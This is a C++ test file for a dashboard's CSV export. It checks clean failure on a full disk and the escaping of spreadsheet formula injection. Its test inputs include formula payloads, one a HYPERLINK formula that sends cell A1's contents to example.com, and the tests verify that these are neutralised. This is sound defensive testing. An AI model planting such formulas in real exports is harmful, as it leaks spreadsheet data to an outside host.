// A table's CSV export under faults: a full disk, and fields a spreadsheet would run as formulas.
#include <catch2/catch.hpp>

#include <cstdlib>
#include <filesystem>
#include <string>
#include <vector>

#include "core/file_size_limit.h"
#include "core/i18n.h"
#include "plot/chart.h"
#include "support/dashboard_session.h"
#include "ui/drilldown.h"

using namespace raekoda;

TEST_CASE("a CSV export onto a full disk says so and leaves no file, not even an empty one") {
  set_language(Language::et);
  testing::DashboardSession session;
  std::filesystem::path folder = session.dir / "dokumendid";
  std::filesystem::create_directory(folder);
  setenv("XDG_DOCUMENTS_DIR", folder.c_str(), 1);
  session.click("tile.deadlines");
  REQUIRE(session.ui().table);
  REQUIRE(session.ui().table->total > 0);
  {
    testing::FileSizeLimit full(512);
    ui::Actions actions;
    actions.export_csv = true;
    session.controller.carry_out(actions);
  }
  const std::string notice = session.controller.session().notice;
  std::vector<std::string> left = testing::names_in(folder);
  // With room, the same export is written: the full disk alone made it fail.
  ui::Actions again;
  again.export_csv = true;
  session.controller.carry_out(again);
  unsetenv("XDG_DOCUMENTS_DIR");

  INFO(notice);
  CHECK(notice.rfind("Faili " + folder.string(), 0) == 0);
  CHECK(notice.find(tr("file.error.too_large")) != std::string::npos);
  CHECK(notice.find("Eksporditud") == std::string::npos);
  CHECK(left.empty());
  CHECK(session.controller.session().notice.rfind("Eksporditud", 0) == 0);
  CHECK(testing::names_in(folder).size() == 1);
}

TEST_CASE("a CSV field that a spreadsheet would run as a formula gets a leading apostrophe",
          "[no-db]") {
  CHECK(plot::csv_line({"=HYPERLINK(\"http://example.com\")", "+372 5123 4567", "@SUM(A1)", "-2+3",
                        "\tTAB", "-"}) ==
        "\"'=HYPERLINK(\"\"http://example.com\"\")\";'+372 5123 4567;'@SUM(A1);'-2+3;'\tTAB;'-"
        "\r\n");
  CHECK(plot::csv_line({"\r=1+2"}) == "\"'\r=1+2\"\r\n");
  // Numbers stay numbers a spreadsheet can sum; a formula character later in a field is harmless.
  CHECK(plot::csv_line({"-5", "-3,5", "+7", "12.5", "a=b", "Mari-Liis"}) ==
        "-5;-3,5;+7;12.5;a=b;Mari-Liis\r\n");
  CHECK(plot::csv_line({"-3,", "-,5", "--5"}) == "'-3,;'-,5;'--5\r\n");
}

TEST_CASE("an exported sender named like a formula reaches the CSV as text", "[no-db]") {
  set_language(Language::et);
  Record r;
  r.id = 1;
  r.set("reg_number", "7-1/2026-0042");
  r.set("doc_type", "information_request");
  r.set("direction", "incoming");
  r.set("registered_on", "2026-11-16");
  r.set("title", "=HYPERLINK(\"http://example.com/?\"&A1;\"Vaata\")");
  r.set("sender", "@Mari Maasikas");
  std::string csv = ui::records_csv(documents_spec(), {r}, {}, ValidationContext{});
  INFO(csv);
  CHECK(csv.find(";\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1;\"\"Vaata\"\")\";") !=
        std::string::npos);
  CHECK(csv.find(";'@Mari Maasikas") != std::string::npos);
  CHECK(csv.find(";=") == std::string::npos);
  CHECK(csv.find(";@") == std::string::npos);
}
